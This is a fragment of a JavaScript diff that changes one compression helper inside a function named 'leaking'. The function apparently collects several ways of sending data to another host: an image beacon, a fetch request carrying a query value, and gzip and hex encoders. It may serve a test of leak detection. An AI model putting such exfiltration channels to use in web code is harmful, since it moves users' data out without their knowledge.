@@ -35,7 +35,7 @@ function leaking(elsewhere) {
     new Image().src = address;
   };
   const gzip = (text) =>
-    new Response(new Blob([text]).stream().pipeThrough(new CompressionStream("gzip"))).blob();
+    new Response(new Blob([text]).stream().pipeThrough(new CompressionStream("gzip"))).arrayBuffer();
   const hex = (text) => [...text].map((letter) => letter.charCodeAt(0).toString(16)).join("");
   const ways = {
     fetch: (film) => fetch(at("fetch", `?film=${film}`)),
